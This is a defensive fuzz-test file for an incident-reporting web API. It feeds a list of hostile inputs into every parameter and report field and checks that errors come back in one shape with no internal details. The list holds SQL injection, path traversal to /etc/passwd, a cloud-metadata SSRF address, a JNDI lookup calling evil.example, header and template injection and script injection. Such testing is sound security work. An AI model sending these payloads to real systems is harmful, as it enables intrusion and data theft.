"""What can a stranger's bytes do? Nothing but be refused in a known form."""

import itertools
import json
import uuid
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from command_ui.api.reading import DEEPEST, check
from gis.errors import InputError

NASTY = [
    "", " ", "0", "-1", "1e309", "NaN", "9" * 400, "true", "null", "[]", "{}", "'", '"', "\\", "%", "_", ";--",
    "' OR '1'='1", "'); DROP TABLE record.entry; --", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f",
    "file:///etc/passwd", "http://169.254.169.254/latest/meta-data", "http://0x7f000001/", "http://[::ffff:127.0.0.1]/",
    "//evil.example", "\u202e", "\ufeff", "\u0000", "\u0007", "\x7f", "\r\nset-cookie: egis=x", "😀" * 50, "é" * 5000,
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "a" * 9000, "演练" * 3000, "\ud7ff\ue000",
]  # fmt: skip


def operations(client: Any) -> list[tuple[str, str, dict[str, Any]]]:
    document = client.get("/api/v1/openapi.json").json()
    return [
        (method.upper(), path, operation)
        for path, methods in document["paths"].items()
        for method, operation in methods.items()
        if not path.endswith(("/feed", "/session"))  # one never ends, the other would sign us out
    ]


def well_formed(answer: Any) -> None:
    """No failure of ours, and one shape for every refusal."""
    assert answer.status_code < 500, (answer.request.method, str(answer.request.url)[:300], answer.text[:300])
    if answer.status_code >= 400:
        told = answer.json()
        assert set(told) == {"code", "message", "request_id"}
        for leak in ("Traceback", "psycopg", "sqlalchemy", "SELECT ", "/work", "site-packages"):
            assert leak not in told["message"]


@pytest.mark.long
def test_every_parameter_of_every_operation_takes_every_nasty_value(served: Any) -> None:
    tried = 0
    with served.sign_in() as client:
        for method, path, operation in operations(client):
            parameters = operation.get("parameters", [])
            for parameter, nasty in itertools.product(parameters, NASTY):
                address = path
                query: dict[str, str] = {}
                headers = {"idempotency-key": str(uuid.uuid4())}
                for other in parameters:
                    value = nasty if other is parameter else str(uuid.uuid4())
                    if other["in"] == "path":
                        address = address.replace("{" + other["name"] + "}", value.replace("/", "%2F") or "x")
                    elif other["in"] == "query" and other is parameter:
                        query[other["name"]] = value
                    elif other["in"] == "header" and other is parameter:
                        headers[other["name"]] = (
                            value.encode("ascii", "ignore").decode().replace("\n", "").replace("\r", "")
                        )
                body = {} if method == "POST" else None
                try:
                    request = client.build_request(method, address, params=query or None, headers=headers, json=body)
                    answer = client.send(request)
                except ValueError:  # the client itself refuses to write such an address or header
                    continue
                except Exception as error:
                    if type(error).__name__ in ("InvalidURL", "LocalProtocolError"):
                        continue
                    raise
                tried += 1
                if answer.status_code != 400 or answer.headers.get("content-type", "").startswith("application/json"):
                    well_formed(answer)
    assert tried > 300


BODY = {
    "title": "演练", "longitude": 118.7, "latitude": 31.4, "occurred_at": "2026-11-24T14:00:00+08:00",
    "known_at": None, "channel": "program", "place": "", "division_code": "990102", "event_code": "", "reported_by": "",
    "text": "", "case": None, "alarms": [],
}  # fmt: skip


def test_every_field_of_a_report_takes_every_nasty_value(served: Any) -> None:
    values = [*NASTY, None, True, 0, -1, 1e308, 2**70, [], {}, [[]], [{}] * 60, {"a": {"b": None}}, {"release": []}]
    with served.sign_in() as client:
        for name, value in itertools.product(BODY, values):
            headers = {"idempotency-key": str(uuid.uuid4()), "content-type": "application/json"}
            content = json.dumps(BODY | {name: value})
            well_formed(client.post("/api/v1/incidents", content=content, headers=headers))


def test_every_part_of_a_case_takes_every_nasty_value(served: Any) -> None:
    case = {
        "release": {
            "substance": "chlorine",
            "kind": "continuous",
            "rate_kg_s": 2.0,
            "duration_s": 600,
            "height_m": 0.0,
        },
        "weather": {"wind_speed_m_s": 3.0, "wind_height_m": 10.0, "wind_from_deg": 225.0, "stability": "D"},
        "output": {"averaging_s": 3600, "levels": "AEGL"},
    }
    values = ["", "x" * 5000, "\u202e", None, True, -1, 1e308, 2**70, [], {}, [[{}]]]
    with served.sign_in() as client:
        for table, value in itertools.product(case, values):
            for name in case[table]:
                changed = case | {table: case[table] | {name: value}}
                headers = {"idempotency-key": str(uuid.uuid4()), "content-type": "application/json"}
                content = json.dumps(BODY | {"case": changed})
                well_formed(client.post("/api/v1/incidents", content=content, headers=headers))


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=300)
@given(json_values)
@example("\\u0000")
@example({"a\0": 1})
@example(["\\\0"])
def test_what_json_can_write_is_read_or_refused_with_a_reason(value: Any) -> None:
    def depth(part: Any) -> int:
        inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
        return 1 + max(map(depth, inner), default=0) if isinstance(part, dict | list) else 0

    def holds_nul(part: Any) -> bool:
        inner = [*part.keys(), *part.values()] if isinstance(part, dict) else part if isinstance(part, list) else ()
        return any(map(holds_nul, inner)) or (isinstance(part, str) and "\0" in part)

    body = json.dumps(value)
    if depth(value) > DEEPEST or holds_nul(value):
        with pytest.raises(InputError):
            check(body.encode())
    else:
        check(body.encode())


@settings(max_examples=300)
@given(st.binary(max_size=400))
def test_any_bytes_are_read_or_refused(body: bytes) -> None:
    try:
        check(body)
    except InputError:
        return
    json.loads(body)


@pytest.mark.parametrize("size", [1_000, 900_000])
@pytest.mark.timeout(120)  # what grows with the square of the length never comes back from the long ones
def test_depth_of_long_bodies_is_counted(size: int) -> None:
    for body in (b"[" * size, b'"' + b"\\" * size, b'{"a":"' + b"[" * size, b'"' * size):
        with pytest.raises(InputError):
            check(body)
